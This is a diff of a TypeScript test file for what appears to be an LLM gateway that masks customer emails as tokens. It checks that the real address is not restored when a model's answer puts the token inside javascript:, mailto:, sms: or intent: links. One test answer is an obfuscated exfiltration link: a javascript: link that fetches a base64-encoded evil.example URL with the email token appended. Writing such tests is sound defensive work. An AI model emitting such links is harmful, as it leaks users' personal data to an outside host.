@@ -618,6 +618,13 @@ describe('a label and number under an ordinary name, a person\'s contact under a
     ['a label beside a port range', { destination: 'attacker', port: '8080-8081', q: '[EMAIL_1]' }],
     ['a label beside a list of ports in one string', { destination: 'attacker', ports: '8080,8081', q: '[EMAIL_1]' }],
     ['a label beside an sctp port', { destination: 'attacker', port: '8080/sctp', q: '[EMAIL_1]' }],
+    // A scheme and a short number are a link's start, whatever follows (review of 97f1a7e, which read
+    // them as an image tag, `postgres:16`, and restored what came after them). The image tag keeps its
+    // call's tokens: a known false positive.
+    ['javascript:1 before the token', { note: 'javascript:1 [EMAIL_1]' }],
+    ['mailto:1 and a no-break space before the query', { note: 'mailto:1\u00a0?body=[EMAIL_1]' }],
+    ['ssh:22 before the token', { cmd: 'ssh:22 [EMAIL_1]' }],
+    ['redis:6379 before the token', { cmd: 'redis:6379 [EMAIL_1]' }],
   ];
   for (const [how, args] of kept) {
     it(`keeps the token: ${how}`, async () => {
@@ -635,8 +642,6 @@ describe('a label and number under an ordinary name, a person\'s contact under a
   ];
   const restored: [string, Record<string, unknown>][] = [
     ...labels.map((ref): [string, Record<string, unknown>] => [`a labelled number ${ref}`, { ref, to: '[EMAIL_1]' }]),
-    ['an image tag postgres:16', { image: 'postgres:16', to: '[EMAIL_1]' }],
-    ['an image tag node:18', { image: 'node:18', to: '[EMAIL_1]' }],
     ['a host_email', { host_email: '[EMAIL_1]' }],
     ['a hostEmail', { hostEmail: '[EMAIL_1]' }],
     ['a co_host', { co_host: '[EMAIL_1]' }],
@@ -657,5 +662,30 @@ describe('a label and number under an ordinary name, a person\'s contact under a
       expect(written).toMatch(/jane@corp\.example|415/);
       expect(restoreVerdict(result)?.outcome).toBe('pass');
     });
+  }
+});
+
+describe('text answers: a scheme and a short number start a link (review of 97f1a7e)', () => {
+  const PROMPT = 'Customer jane@corp.example, summarise';
+  const answers = [
+    'See javascript:1 [EMAIL_1] now.',
+    "Click [x](<javascript:1 ;fetch(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvP2Q9')+'[EMAIL_1]')>) now.",
+    '[x](<mailto:1 ?body=[EMAIL_1]>)',
+    '[x](mailto:1\u00a0?body=[EMAIL_1])',
+    '[x](sms:12345\u2028?body=[EMAIL_1])',
+    '[x](<intent:1 #Intent;S.d=[EMAIL_1];end>)',
+  ];
+  for (const answer of answers) {
+    for (const via of ['call', 'stream'] as const) {
+      it(`keeps the token (${via}): ${JSON.stringify(answer)}`, async () => {
+        f.provider.answer = answer;
+        f.provider.functionCalls = undefined;
+        const streamed: string[] = [];
+        const request = ask(`s14e-${via}`, PROMPT);
+        const result = via === 'call' ? await f.gateway.call(request) : await f.gateway.stream(request, (t) => streamed.push(t), { holdUntilVerdict: false });
+        expect(result.text).toContain('[EMAIL_1]');
+        for (const shown of [result.text, streamed.join('')]) expect(shown).not.toContain('jane@corp.example');
+      });
+    }
   }
 });
